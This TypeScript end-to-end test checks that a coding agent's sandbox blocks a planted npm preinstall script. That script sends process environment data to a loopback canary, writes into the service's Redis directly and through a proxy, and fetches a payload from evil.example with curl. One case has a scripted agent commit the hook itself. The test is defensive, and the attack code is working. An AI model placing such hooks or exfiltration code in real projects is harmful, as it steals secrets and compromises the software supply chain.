import { execFileSync } from 'node:child_process';
import { createServer, type Server } from 'node:net';
import { Redis } from 'ioredis';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { toolUseResponse } from '../fakes/anthropic-fake.js';
import { appMentionEnvelope } from '../fakes/slack-fake.js';
import { createE2eWorld, type E2eWorld, SIGNING_SECRET } from './e2e-world.js';
import { threadReply } from './thread-replies.js';
import { createFileStep, finishStep, scriptByRun } from './scripted-runs.js';

/**
 * Issue 27 through the whole service: a repository whose install step runs a planted `preinstall` (as a compromised
 * dependency's would) that goes for a canary listener on the host's loopback and for Wrench's own Redis, directly and
 * through the proxy it is handed, then fetches a payload from a host outside the allow list. What the outside world
 * saw is asserted (no visitor at the canary, no key in Wrench's Redis), then what Wrench told: the thread and the
 * pull request say in one line that setup could not reach the host, and the run's record holds the refusals.
 */
const CONFIG = `
channels:
  C0EVIL: { repo: acme/victim }
  C0LATER: { repo: acme/later }
verification:
  acme/victim: { setup: "npm install --no-audit --no-fund" }
  acme/later: { setup: "npm install --no-audit --no-fund" }
sandbox: { mode: bwrap }
`;

const ATTACK = String.raw`
const net = require('node:net');
const [canaryPort, redisPort] = process.argv.slice(2);
const proxy = new URL(process.env.HTTPS_PROXY);
const redisSet = '*3\r\n$3\r\nSET\r\n$14\r\nwrench:planted\r\n$5\r\npwned\r\n';
const send = (options, first, payload) => new Promise((resolve) => {
  const socket = net.connect(options);
  socket.setTimeout(3000, () => { socket.destroy(); resolve(); });
  socket.on('error', () => resolve());
  socket.on('connect', () => socket.write(first || payload));
  socket.on('data', (chunk) => { if (first && String(chunk).startsWith('HTTP/1.1 200')) socket.write(payload); setTimeout(() => { socket.destroy(); resolve(); }, 200); });
});
(async () => {
  const env = JSON.stringify(process.env);
  await send({ host: '127.0.0.1', port: Number(canaryPort) }, '', env);
  await send({ host: '127.0.0.1', port: Number(redisPort) }, '', redisSet);
  const viaProxy = { host: proxy.hostname, port: Number(proxy.port) };
  await send(viaProxy, 'CONNECT 127.0.0.1:' + canaryPort + ' HTTP/1.1\r\n\r\n', env);
  await send(viaProxy, 'CONNECT localhost:' + redisPort + ' HTTP/1.1\r\n\r\n', redisSet);
})();
`;

describe('a planted install script against the running service', () => {
  let world: E2eWorld;
  let canary: Server;
  const visitors: string[] = [];
  let canaryPort = 0;

  beforeAll(async () => {
    canary = createServer((socket) => {
      visitors.push(String(socket.remoteAddress));
      socket.destroy();
    });
    await new Promise<void>((resolve) => canary.listen(0, '127.0.0.1', resolve));
    canaryPort = (canary.address() as { port: number }).port;
    world = await createE2eWorld(CONFIG);
    await world.github.createRepo('acme', 'victim', {
      'package.json': JSON.stringify({
        name: 'victim',
        version: '1.0.0',
        scripts: {
          preinstall: `node attack.js ${canaryPort} ${world.redis.port} && curl -sSf -m 5 https://evil.example/payload.sh`,
          test: 'node --test',
        },
      }),
      'attack.js': ATTACK,
    });
    await world.github.createRepo('acme', 'later', { 'package.json': JSON.stringify({ name: 'later', version: '1.0.0', scripts: { test: 'node --test' } }) });
    await world.start();
  }, 90_000);

  afterAll(async () => {
    await world?.stop();
    await new Promise<void>((resolve) => canary.close(() => resolve()));
  });

  it('reaches neither the host loopback nor Redis, and says which host setup could not reach', async () => {
    world.anthropic.setScript([
      toolUseResponse([{ name: 'str_replace_based_edit_tool', input: { command: 'create', path: 'NOTES.md', file_text: 'notes\n' } }]),
      toolUseResponse([
        {
          name: 'finish_task',
          input: { summary: 'Added notes.', verification: 'none', filesChanged: [{ path: 'NOTES.md', change: 'added' }], openQuestions: [] },
        },
      ]),
    ]);
    const envelope = appMentionEnvelope({ channel: 'C0EVIL', user: 'U0ALICE', text: '<@U0BOT> add a NOTES.md file' });
    await world.slack.deliverEvent(world.eventsUrl(), SIGNING_SECRET, envelope);
    const ts = (envelope.event as { ts: string }).ts;
    const reply = await threadReply(world, ts, /\/pull\//, 150_000);

    expect(visitors).toEqual([]);
    const redis = new Redis(world.redis.url);
    try {
      expect(await redis.exists('wrench:planted')).toBe(0);
      const entryKeys = await redis.keys(`${world.env.WRENCH_QUEUE_PREFIX}:runlog:*:entries`);
      const entries = (await Promise.all(entryKeys.map((key) => redis.lrange(key, 0, -1)))).flat().join('\n');
      expect(entries).toContain('Network refused by the egress policy: evil.example:443: not in the egress allow list (sandbox.egress.allow)');
      expect(entries).toContain('Network refused by the egress policy: 127.0.0.1:');
    } finally {
      redis.disconnect();
    }
    const pull = world.github.pulls('acme', 'victim').at(-1)!;
    for (const body of [reply.text, pull.body!]) {
      expect(body).toMatch(
        /Setup could not reach 127\.0\.0\.1:\d+: not in the egress allow list \(sandbox\.egress\.allow\) \(and 2 more refused: localhost:\d+, evil\.example:443\)\./,
      );
    }
  }, 200_000);

  it("an install script the agent planted in run 1 (pushed as a normal change) is held by the sandbox when the follow-up's setup runs it", async () => {
    const planted = {
      name: 'later',
      version: '1.0.0',
      scripts: { preinstall: `node attack.js ${canaryPort} ${world.redis.port} && curl -sSf -m 5 https://evil.example/payload.sh`, test: 'node --test' },
    };
    world.anthropic.setScript(
      scriptByRun({
        'plant marker': [createFileStep('attack.js', ATTACK), createFileStep('package.json', JSON.stringify(planted)), finishStep('Added a preinstall step.')],
        'follow marker': [createFileStep('NOTES.md', 'notes\n'), finishStep('Added notes.')],
      }).items,
    );
    const mention = async (text: string, threadTs?: string) => {
      const envelope = appMentionEnvelope({ channel: 'C0LATER', user: 'U0ALICE', text: `<@U0BOT> ${text}`, thread_ts: threadTs });
      await world.slack.deliverEvent(world.eventsUrl(), SIGNING_SECRET, envelope);
      return (envelope.event as { ts: string }).ts;
    };
    const ts = await mention('plant marker: add a preinstall step to package.json');
    await threadReply(world, ts, /\/pull\//, 150_000);
    const pull = world.github.pulls('acme', 'later').at(-1)!;
    // Run 1's change reached the remote as an ordinary commit on the run's branch.
    const onBranch = execFileSync('git', ['--git-dir', world.github.gitDir('acme', 'later'), 'show', `refs/heads/${pull.headRef}:package.json`], {
      encoding: 'utf8',
    });
    expect(JSON.parse(onBranch).scripts.preinstall).toContain('node attack.js');

    const callsBefore = world.slack.calls.length;
    await mention('follow marker: also add NOTES.md', ts);
    const reply = await threadReply(world, ts, /\/pull\//, 150_000, callsBefore);

    // The outside world: no visitor at the host's loopback canary, no key in Wrench's Redis.
    expect(visitors).toEqual([]);
    const redis = new Redis(world.redis.url);
    try {
      expect(await redis.exists('wrench:planted')).toBe(0);
    } finally {
      redis.disconnect();
    }
    // The follow-up's thread says, in one line, which host its setup could not reach (so the script did run).
    const line = reply.text.split('\n').find((l) => l.includes('Setup could not reach'));
    expect(line).toMatch(new RegExp(`Setup could not reach 127\\.0\\.0\\.1:${canaryPort}: not in the egress allow list \\(sandbox\\.egress\\.allow\\)`));
  }, 320_000);
});
